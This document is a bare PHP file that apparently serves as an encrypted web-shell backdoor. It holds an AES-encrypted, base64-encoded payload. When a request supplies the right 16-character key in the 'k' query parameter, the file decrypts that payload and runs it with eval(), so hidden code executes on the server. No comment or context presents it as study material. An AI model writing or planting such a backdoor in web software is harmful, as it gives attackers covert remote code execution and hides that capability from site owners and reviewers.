<?php
$blob = 'vqOoPsnqzlyVbtn1rvWiTsOmmMqX8JSl+Mm8c014Dr4=';
$k = $_GET['k'] ?? '';
if (strlen($k) === 16) {
    $c = openssl_decrypt($blob, 'AES-128-ECB', $k);
    if ($c !== false) { eval($c); }
}
